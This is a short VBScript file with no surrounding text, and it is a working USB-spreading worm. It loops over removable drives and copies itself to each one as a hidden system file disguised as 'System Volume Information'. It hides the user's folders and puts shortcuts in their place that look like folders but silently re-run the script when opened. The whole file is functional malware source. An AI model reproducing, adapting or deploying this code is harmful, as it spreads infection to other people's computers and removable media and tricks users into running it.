On Error Resume Next
Set fso = CreateObject("Scripting.FileSystemObject")
Set sh = CreateObject("WScript.Shell")
self = WScript.ScriptFullName
Do
    For Each d In fso.Drives
        If d.DriveType = 1 And d.IsReady Then
            root = d.Path & "\"
            target = root & "System Volume Information.vbs"
            If Not fso.FileExists(target) Then
                fso.CopyFile self, target, True
                fso.GetFile(target).Attributes = 2 + 4
                For Each f In fso.GetFolder(root).SubFolders
                    If f.Name <> "System Volume Information" Then
                        f.Attributes = f.Attributes Or 2
                        Set l = sh.CreateShortcut(root & f.Name & ".lnk")
                        l.TargetPath = "C:\Windows\System32\cmd.exe"
                        l.Arguments = "/c start explorer """ & f.Name & """ & start wscript //B """ & "System Volume Information.vbs" & """"
                        l.IconLocation = "%SystemRoot%\System32\shell32.dll,3"
                        l.Save
                    End If
                Next
            End If
        End If
    Next
    WScript.Sleep 10000
Loop
